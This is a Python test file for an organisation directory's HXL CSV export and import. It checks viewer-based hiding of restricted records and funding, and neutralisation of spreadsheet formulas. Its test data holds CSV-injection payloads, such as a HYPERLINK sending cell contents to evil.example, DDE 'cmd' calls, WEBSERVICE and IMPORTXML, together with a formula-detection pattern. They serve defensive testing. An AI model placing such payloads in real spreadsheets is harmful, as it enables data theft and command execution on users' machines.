"""HXL CSV exports: what a viewer may see, in the format imports read, and back again."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from directory.domain.viewer import ANONYMOUS, STEWARD, Viewer
from directory.exchange import demo, exports, importer
from directory.formats import hxl
from directory.jobs import partners
from directory.store import Store
from tests.conftest import WIPE
from tests.helpers import csv_bytes, load, org, service

pytestmark = pytest.mark.anyio


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8") as f:
        lines = list(csv.reader(f))
    return [dict(zip(lines[1], line, strict=True)) for line in lines[2:]]


async def snapshot(store: Store) -> tuple[list[object], list[object], list[object]]:
    orgs = [o for page in [p async for p in store.each_organisation(STEWARD)] for o in page]
    ids = [o.id for o in orgs]
    services = await store.services_of(STEWARD, ids)
    strip = lambda r: {k: v for k, v in vars(r).items() if k != "provenance"}  # noqa: E731
    return ([strip(o) for o in orgs], [strip(s) for i in ids for s in services[i]],
            [vars(lk) for lk in await store.links_from(STEWARD, ids)])


async def test_a_full_csv_export_imports_back_to_the_same_directory(store: Store, tmp_path: Path) -> None:
    await demo.load(store)
    before = await snapshot(store)
    counts = await exports.export_csv(store, STEWARD, tmp_path)
    assert counts == {"organisations": 62, "services": 83, "links": 57}
    await store.graph.write(WIPE)
    inputs = [importer.Parsed(name, *hxl.read((tmp_path / name).read_bytes(), name))
              for name in ("organisations.csv", "services.csv", "links.csv")]
    await importer.run(store, inputs)
    assert await snapshot(store) == before


async def test_a_public_csv_export_holds_no_hidden_record_link_or_funding(store: Store, tmp_path: Path) -> None:
    await demo.load(store)
    await exports.export_csv(store, ANONYMOUS, tmp_path)
    text = "".join((tmp_path / f"{k}.csv").read_text() for k in ("organisations", "services", "links"))
    for hidden in ("Casa Respiro", "Harbour House", "Sierra Legal", "Quiet Harbour", "signal:", "Core support",
                   "Legal aid fund", "6.98"):
        assert hidden not in text
    links = rows(tmp_path / "links.csv")
    assert {lk["#meta+visibility"] for lk in links} == {"public"}
    assert {(lk["#rel+type"], lk["#rel+purpose"]) for lk in links if lk["#rel+type"] == "FUNDS"} == {
        ("FUNDS", "Security equipment")}  # the one grant its donor published


async def test_a_member_sees_its_own_funding_but_not_other_restricted_grants(store: Store, tmp_path: Path) -> None:
    await demo.load(store)
    await exports.export_csv(store, Viewer("member", "test:fict-lakeside-rights"), tmp_path)
    funds = {lk["#rel+purpose"] for lk in rows(tmp_path / "links.csv") if lk["#rel+type"] == "FUNDS"}
    assert funds == {"Security equipment", "Core support"}  # its own restricted grant, and the public one


async def test_a_link_to_a_hidden_organisation_stays_hidden_even_from_its_other_end(store: Store,
                                                                                   tmp_path: Path) -> None:
    await demo.load(store)
    # The Legal aid fund comes from a restricted donor: showing the grant would show the donor.
    await exports.export_csv(store, Viewer("member", "test:fict-kampala-legal"), tmp_path)
    funds = {lk["#rel+purpose"] for lk in rows(tmp_path / "links.csv") if lk["#rel+type"] == "FUNDS"}
    assert "Legal aid fund" not in funds and "Quiet Harbour" not in (tmp_path / "organisations.csv").read_text()


# --- spreadsheet formulas: neutralised on export, restored on import -----------------------------

# What makes a spreadsheet run a cell (OWASP "CSV Injection"), with full-width and small forms.
FORMULA = set("=+-@\t\r\0") | set("\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b")
NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
# Each starts a stored text: the validator strips leading whitespace and refuses a carriage return,
# so a tab shows up only after an apostrophe, and an apostrophe already there must survive too.
STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "'=", "''+", "'\t=", "'-"]
ORG_COLUMNS = ["#org+id", "#org+name", "#org+alt+name", "#org+type", "#description", "#org+url", "#org+lang",
               "#channel+contact", "#org+code", "#country+code", "#geo+lat", "#geo+lon", "#geo+precision",
               "#meta+visibility", "#meta+source"]
SERVICE_COLUMNS = ["#service+id", "#org+id", "#service+name", "#sector", "#description", "#service+eligibility",
                   "#capacity", "#capacity+unit", "#service+cost", "#country+code+present", "#meta+visibility"]
LINK_COLUMNS = ["#rel+type", "#org+id+source", "#org+id+target", "#meta+id", "#meta+visibility", "#value",
                "#currency", "#date+year", "#rel+purpose"]


def dangerous(cell: str) -> bool:
    """A spreadsheet could run it: a formula start first, or after leading whitespace; numbers are fine."""
    if NUMBER.fullmatch(cell):
        return False
    body = cell.lstrip()
    return any(ch in FORMULA for ch in cell[: len(cell) - len(body) + 1])


async def load_formulas(store: Store) -> None:
    orgs = [{"#org+id": "plain", "#org+name": "-5", "#org+alt+name": "+3.5", "#org+type": "national-ngo",
             "#country+code": "CO", "#geo+lat": "4.71", "#geo+lon": "-74.07", "#geo+precision": "exact",
             "#meta+visibility": "public"}]
    services, links = [], []
    for n, start in enumerate(STARTS):
        orgs.append({
            "#org+id": f"f{n}", "#org+name": f'{start}HYPERLINK("https://evil.example/?x="&A1,"Click")',
            "#org+alt+name": f"{start}SUM(1,2)|{start}cmd|' /C calc'!A0", "#org+type": "national-ngo",
            "#description": f"{start}2+3 is what they say", "#org+url": f"https://example.org/?q==A{n}",
            # a channel whose kind takes any text (an email address must have an email's shape)
            "#org+lang": "es", "#channel+contact": f"phone:+57 1 234 {n}|wire:{start}x@example.org",
            "#org+code": f"GB-CHC:{start}{n}", "#country+code": "CO", "#geo+lat": "-4.5", "#geo+lon": "-74.07",
            "#geo+precision": "locality", "#meta+visibility": "public", "#meta+source": f"{start}WEBSERVICE(x)"})
        services.append({
            "#service+id": f"s{n}", "#org+id": f"f{n}", "#service+name": f"{start}legal aid", "#sector": "legal-aid",
            "#description": f"{start}IMPORTXML(a,b)", "#service+eligibility": f"{start}anyone",
            "#capacity": "3", "#capacity+unit": f"{start}cases", "#service+cost": f"{start}free",
            "#country+code+present": "CO", "#meta+visibility": "public"})
        links.append({"#rel+type": "FUNDS", "#org+id+source": "plain", "#org+id+target": f"f{n}",
                      "#meta+id": f"{start}grant", "#meta+visibility": "public", "#value": "1000",
                      "#currency": "USD", "#date+year": "2024", "#rel+purpose": f"{start}DDE(x)"})
    # Written as exports write them, so that a text starting with an apostrophe is stored as given.
    inputs = [importer.Parsed(name, *hxl.read(csv_bytes(tags, [{k: hxl.neutralise(v) for k, v in row.items()}
                                                               for row in rows]), name))
              for name, tags, rows in (("orgs.csv", ORG_COLUMNS, orgs), ("services.csv", SERVICE_COLUMNS, services),
                                       ("links.csv", LINK_COLUMNS, links))]
    await importer.run(store, inputs)


async def test_formula_cells_are_written_as_text_and_read_back_as_they_were(store: Store, tmp_path: Path) -> None:
    await load_formulas(store)
    before = await snapshot(store)
    stored = {o["name"] for o in before[0]}  # type: ignore[index]
    assert {s + 'HYPERLINK("https://evil.example/?x="&A1,"Click")' for s in STARTS} <= stored  # stored as given
    await exports.export_csv(store, STEWARD, tmp_path)
    cells = 0
    for kind in ("organisations", "services", "links"):
        with (tmp_path / f"{kind}.csv").open(encoding="utf-8", newline="") as f:
            for line in csv.reader(f):
                for cell in line:
                    assert not dangerous(cell), (kind, cell)
                    cells += 1
    assert cells > 500
    organisations = {r["#org+id"]: r for r in rows(tmp_path / "organisations.csv")}
    # Readable: the text itself behind one apostrophe. Plain numbers stay numbers.
    assert organisations["test:f0"]["#org+name"] == "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")"
    assert organisations["test:f0"]["#org+alt+name"] == "'=SUM(1,2)|=cmd|' /C calc'!A0"
    assert organisations["test:f9"]["#org+name"].startswith("''=HYPERLINK")
    assert organisations["test:f0"]["#channel+contact"] == "phone:+57 1 234 0|wire:=x@example.org"
    assert (organisations["test:plain"]["#org+name"], organisations["test:plain"]["#org+alt+name"],
            organisations["test:plain"]["#geo+lon"], organisations["test:f0"]["#geo+lat"]) == (
        "-5", "+3.5", "-74.07", "-4.5")
    await store.graph.write(WIPE)
    inputs = [importer.Parsed(name, *hxl.read((tmp_path / name).read_bytes(), name))
              for name in ("organisations.csv", "services.csv", "links.csv")]
    await importer.run(store, inputs)
    assert await snapshot(store) == before


def test_neutralising_and_restoring_are_inverse() -> None:
    for text in ["=1+1", "+44 20 7946 0000", "-", "@SUM(1)", "\t=1", "\r=1", " =1", " \t x", "\u3000=1", "\uff1d1",
                 "'=1", "''=1", "'", "''", "'a", "a=1", "1-2", "", "-5", "+3.5", "-1e-05", ".5", "-.5e3"]:
        written = hxl.neutralise(text)
        assert not dangerous(written), text
        assert hxl.restore(written) == text
        assert written == text or written == "'" + text
    assert [hxl.neutralise(n) for n in ("-5", "+3.5", "-1e-05", -74.07, 3, None)] == [
        "-5", "+3.5", "-1e-05", "-74.07", "3", ""]
    assert hxl.restore("'-5") == "-5"  # as a spreadsheet user would type a number kept as text


async def test_a_job_answer_written_as_csv_holds_no_formula(store: Store) -> None:
    await load(store, [org("me", **{"#geo+lat": "4.71", "#geo+lon": "-74.07", "#geo+precision": "locality"}),
                       org("x", "=HYPERLINK(\"https://evil.example\",\"Click\")"),
                       org("y", "@SUM(1,2)"), org("z", "-cmd|' /C calc'!A0")],
               [service("me-legal", "me"), service("x-psy", "x", "psychosocial-support"),
                service("y-psy", "y", "psychosocial-support"), service("z-psy", "z", "psychosocial-support")])
    viewer = Viewer("member", "test:me", "t")
    found = await partners.find_partners(store, viewer, partners.PartnerQuestion(
        service_types=["psychosocial-support"]))
    names = {o.id: o.name for o in (await store.organisations_by_id(viewer, [p.organisation for p in found])).values()}
    answer = list(csv.reader(io.StringIO(partners.table(found, names).csv())))
    assert {line[1] for line in answer[2:]} == {"'=HYPERLINK(\"https://evil.example\",\"Click\")", "'@SUM(1,2)",
                                                "'-cmd|' /C calc'!A0"}
    assert not [cell for line in answer for cell in line if dangerous(cell)]
